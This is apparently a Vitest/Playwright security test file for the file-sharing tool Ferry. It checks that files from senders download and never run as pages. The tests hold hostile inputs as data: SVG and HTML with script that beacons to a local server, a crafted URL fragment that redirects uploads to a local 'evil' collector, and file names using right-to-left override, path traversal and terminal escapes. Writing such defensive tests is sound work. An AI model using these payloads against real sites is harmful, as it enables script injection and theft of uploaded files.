import { GetObjectCommand, HeadObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { getSignedUrl } from '@aws-sdk/s3-request-presigner';
import { existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Connection, Ferry } from '../../main/core/ferry';
import { cliEnv, coreWithAccount, ferry as runFerry, tempDir, uniqueName } from '../support/helpers';

/**
 * Files other people send, opened by their owner from Ferry, in a real browser. A sender controls
 * a file's bytes, its name and the Content-Type it is stored with; the storage origin is where
 * Ferry's own pages live. Nothing a sender wrote may run there.
 */
describe('received files never run as pages', () => {
  let core: Ferry;
  let conn: Connection;
  let dataDir: string;
  let account: string;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let beacon: Server;
  let beaconUrl: string;
  const ran: string[] = [];
  const bucket = uniqueName('active');

  beforeAll(async () => {
    if (!existsSync('/usr/bin/chromium')) throw new Error('The browser tests need Chromium: apt-get install -y chromium');
    ({ ferry: core, dataDir, account } = await coreWithAccount());
    conn = await core.connect({ account });
    await conn.storage.createBucket(bucket);
    // Script that runs calls home here: every hit is a file that ran as a page.
    beacon = createServer((req, res) => {
      ran.push(req.url ?? '');
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((r) => beacon.listen(0, '127.0.0.1', r));
    beaconUrl = `http://127.0.0.1:${(beacon.address() as { port: number }).port}`;
    browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run', '--disable-sync'] });
    context = await browser.newContext({ acceptDownloads: true });
    page = await context.newPage();
  });
  afterAll(async () => {
    await browser?.close();
    beacon?.close();
    conn?.close();
  });

  const svg = (tag: string) => `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("BEACON/${tag}")</script><rect width="10" height="10"/></svg>`;
  const html = (tag: string) => `<!doctype html><script>fetch("BEACON/${tag}")</script><h1>hello</h1>`;

  /** Opens a link as the owner would (a click in the share panel opens the system browser); whether it became a download. */
  async function open(url: string): Promise<{ downloaded: boolean; type?: string | null }> {
    const download = page.waitForEvent('download', { timeout: 3000 }).then(
      async (d) => (await d.cancel(), true),
      () => false,
    );
    const response = await page.goto(url).catch(() => null);
    const downloaded = await download;
    await page.waitForTimeout(300);
    await page.goto('about:blank');
    return { downloaded, type: response?.headers()['content-type'] };
  }

  it('an SVG with script through an image request, and HTML through an open one, download from every link Ferry makes', async () => {
    const images = await conn.requestFiles({ bucket, title: 'Photos', expiresIn: 600, maxBytes: 100_000, accept: 'image/*' });
    const any = await conn.requestFiles({ bucket, title: 'Anything', expiresIn: 600, maxBytes: 100_000 });
    const dir = await tempDir();
    await writeFile(join(dir, 'cute.svg'), svg('svg').replace('BEACON', beaconUrl));
    await writeFile(join(dir, 'invoice.html'), html('html').replace('BEACON', beaconUrl));
    // The senders use the real request pages.
    // The picker of an image request offers images (a phone's too).
    await page.goto(images.url);
    expect(await page.locator('#files').getAttribute('accept')).toBe('image/*');
    for (const [link, file] of [
      [images.url, 'cute.svg'],
      [any.url, 'invoice.html'],
    ] as const) {
      await page.goto(link);
      await page.setInputFiles('#files', join(dir, file));
      await page.waitForFunction(() => document.querySelector('#list .ok, #list .bad')?.textContent === 'sent', undefined, { timeout: 15_000 });
    }
    const received = (await core.listRequests()).flatMap((r) => r.received.map((o) => o.key));
    expect(received).toHaveLength(2);
    // Stored as the active types the senders named: the danger is real.
    for (const key of received) {
      const head = await conn.storage.client.send(new HeadObjectCommand({ Bucket: bucket, Key: key }));
      expect(head.ContentType).toMatch(/svg|html/);
    }
    // Control: a plain presigned link (what other tools make) runs the sender's script.
    const plain = await getSignedUrl(await conn.storage.client.get(), new GetObjectCommand({ Bucket: bucket, Key: received.find((k) => k.endsWith('.html'))! }), { expiresIn: 60 });
    await page.goto(plain);
    await expect.poll(() => ran.length, { timeout: 5000 }).toBeGreaterThan(0);
    ran.length = 0;
    // Every way Ferry makes a link: the window's Copy link / Share (conn.share), and ferry presign.
    for (const key of received) {
      const viaCore = await conn.share({ bucket, key, expiresIn: 600 });
      const viaCli = await runFerry(['presign', `s3://${bucket}/${key}`, '--account', account], { env: cliEnv(dataDir) });
      expect(viaCli.code, viaCli.stderr).toBe(0);
      for (const url of [viaCore.url, viaCli.stdout.trim()]) {
        const opened = await open(url);
        expect(opened.downloaded, `${key} via ${url}`).toBe(true);
      }
    }
    expect(ran).toEqual([]);
  });

  it('a sender who lies about the type (HTML stored as text/html under photo.png) gets a picture, never a page', async () => {
    const key = 'incoming/liar/photo.png';
    await conn.storage.client.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: html('liar').replace('BEACON', beaconUrl), ContentType: 'text/html' }));
    const link = await conn.share({ bucket, key, expiresIn: 600 });
    const opened = await open(link.url);
    expect(opened.type).toBe('image/png');
    expect(ran).toEqual([]);
  });

  it('the genuine request page with a crafted fragment still posts only where Ferry wrote it to', async () => {
    const attacker: string[] = [];
    const evil = createServer((req, res) => {
      attacker.push(`${req.method} ${req.url}`);
      res.writeHead(201, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
    const evilUrl = `http://127.0.0.1:${(evil.address() as { port: number }).port}/collect`;
    const { url, request } = await conn.requestFiles({ bucket, title: 'Tax papers', note: 'Only for my accountant', expiresIn: 600, maxBytes: 100_000 });
    const hash = new URL(url).hash.slice(1).replace(/-/g, '+').replace(/_/g, '/');
    const form = JSON.parse(Buffer.from(hash, 'base64').toString('utf8')) as Record<string, unknown>;
    const crafted = Buffer.from(JSON.stringify({ ...form, url: evilUrl })).toString('base64').replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
    await page.goto(`${url.split('#')[0]}#${crafted}`);
    const dir = await tempDir();
    await writeFile(join(dir, 'return.pdf'), 'secret figures');
    await page.setInputFiles('#files', join(dir, 'return.pdf'));
    await page.waitForFunction(() => document.querySelector('#list .ok, #list .bad') !== null && document.querySelector('#list .muted')?.textContent !== 'waiting', undefined, { timeout: 15_000 });
    await page.waitForTimeout(500);
    expect(attacker).toEqual([]);
    const landed = [];
    for await (const p of conn.storage.listObjects(bucket, request.prefix, { recursive: true })) landed.push(...p.objects.map((o) => o.key));
    expect(landed).toHaveLength(1);
    evil.close();
  });

  it('the page refuses names with control, direction or path characters; two requests with one title never share a folder', async () => {
    const a = await conn.requestFiles({ bucket, title: 'Same name', expiresIn: 600, maxBytes: 100_000 });
    const b = await conn.requestFiles({ bucket, title: 'Same name', expiresIn: 600, maxBytes: 100_000 });
    expect(a.request.prefix).not.toBe(b.request.prefix);
    await page.goto(a.url);
    await page.evaluate(() => {
      const dt = new DataTransfer();
      for (const name of ['invoice\u202Efdp.exe', 'a/../../etc/evil.txt', 'esc\u001b[2Jname.txt', 'back\\slash.txt', 'fine.txt']) dt.items.add(new File(['x'], name, { type: 'text/plain' }));
      document.getElementById('drop')!.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
    });
    await page.waitForFunction(() => document.querySelectorAll('#list .ok').length + document.querySelectorAll('#list .bad').length === 5, undefined, { timeout: 15_000 });
    expect(await page.locator('#list .bad').count()).toBe(4);
    // Names are shown as escapes, never as the characters themselves.
    const shown = (await page.locator('#list .name').allTextContents()).join('\n');
    expect(shown).toContain('invoice\\u202efdp.exe');
    expect(shown.includes('\u202e') || shown.includes('\u001b')).toBe(false);
    const landed = [];
    for await (const p of conn.storage.listObjects(bucket, a.request.prefix, { recursive: true })) landed.push(...p.objects.map((o) => o.key.split('/').pop()));
    expect(landed).toEqual(['fine.txt']);
  });

  it('the many-files page shows direction and control characters in names as escapes', async () => {
    const key = 'trip/invoice\u202Efdp.exe';
    await conn.storage.client.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: 'x' }));
    const link = await conn.shareMany({ bucket, keys: [key], expiresIn: 600, title: 'Trip\u202E' });
    await page.goto(link.url);
    expect(await page.locator('#list .name').textContent()).toBe('trip/invoice\\u202efdp.exe');
    expect(await page.locator('h1').textContent()).toBe('Trip\\u202e');
  });

  it('"Test connection" learns whether the server keeps a request\'s download marking, and says so', async () => {
    const report = await core.testConnection({ account }, { bucket });
    const keeps = report.capabilities?.postKeepsDisposition;
    expect(typeof keeps).toBe('boolean');
    // What it says matches what the server does with a file sent through a request.
    const { url, request } = await conn.requestFiles({ bucket, title: 'Marking', expiresIn: 600, maxBytes: 1000 });
    await page.goto(url);
    const dir = await tempDir();
    await writeFile(join(dir, 'm.txt'), 'm');
    await page.setInputFiles('#files', join(dir, 'm.txt'));
    await page.waitForFunction(() => document.querySelector('#list .ok') !== null, undefined, { timeout: 15_000 });
    const [stored] = (await core.listRequests()).find((r) => r.pageKey === request.pageKey)!.received;
    const head = await conn.storage.client.send(new HeadObjectCommand({ Bucket: bucket, Key: stored!.key }));
    expect(/^attachment/.test(head.ContentDisposition ?? '')).toBe(keeps);
    expect(request.keepsDisposition).toBe(keeps);
    const line = report.abilities?.find((l) => l.name === 'received files kept as downloads');
    expect(line?.detail).toMatch(keeps ? /keeps/ : /NOT kept.*Ferry's own links/);
  });
});
